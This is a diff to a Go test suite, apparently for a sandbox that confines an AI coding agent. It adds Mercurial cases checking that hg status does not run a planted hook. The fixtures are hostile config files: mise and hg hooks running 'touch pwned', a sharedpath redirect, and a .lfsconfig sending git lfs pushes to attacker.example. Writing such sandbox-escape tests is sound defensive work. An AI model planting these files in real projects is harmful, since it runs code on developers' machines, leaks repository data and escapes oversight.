@@ -54,6 +54,9 @@ var agentFileRows = []struct {
 	{".mise.local.toml", "[env]\n_.source = \"./evil.sh\"\n"},
 	{".mise/config.toml", "[hooks]\nenter = \"touch pwned\"\n"},
 	{".config/mise/config.toml", "[hooks]\nenter = \"touch pwned\"\n"},
+	// Mercurial: a repository's hooks and extensions run on hg status.
+	{".hg/hgrc", "[hooks]\npre-status = touch pwned\n"},
+	{".hg/sharedpath", "/tmp/elsewhere/.hg\n"},
 	// git lfs: its endpoint, where git push sends the objects.
 	{".lfsconfig", "[lfs]\n\turl = https://attacker.example/lfs\n"},
 }
@@ -76,6 +79,15 @@ func TestSandboxAgentProjectFiles(t *testing.T) {
 		return string(out)
 	}
 	gitIn("init", "-q")
+	// A Mercurial repository at the top (hg init makes no hgrc).
+	hg, _ := exec.LookPath("hg")
+	if hg != "" {
+		cmd := exec.Command(hg, "init", "-q")
+		cmd.Dir, cmd.Env = ws, env
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("hg init: %v\n%s", err, out)
+		}
+	}
 	gitIn("remote", "add", "origin", "https://example.com/me/repo.git")
 	// Existing files: bound read-only.
 	existing := map[string]string{"mise.toml": "[tools]\ngo = \"1.26\"\n", ".pre-commit-config.yaml": "repos: []\n", "pkg/.zed/settings.json": "{}\n"}
@@ -131,6 +143,15 @@ func TestSandboxAgentProjectFiles(t *testing.T) {
 			t.Errorf("%s changed: %q", p, b)
 		}
 	}
+	t.Run("hg status", func(t *testing.T) {
+		hg := needTool(t, "hg")
+		cmd := exec.Command(hg, "status")
+		cmd.Dir, cmd.Env = ws, env
+		out, err := cmd.CombinedOutput()
+		if exists(filepath.Join(ws, "pwned")) {
+			t.Errorf("hg status ran what the confined command planted (%v):\n%s", err, out)
+		}
+	})
 	t.Run("git lfs endpoint", func(t *testing.T) {
 		needTool(t, "git-lfs")
 		if e := gitIn("lfs", "env"); strings.Contains(e, "attacker") || !strings.Contains(e, "example.com/me/repo.git") {
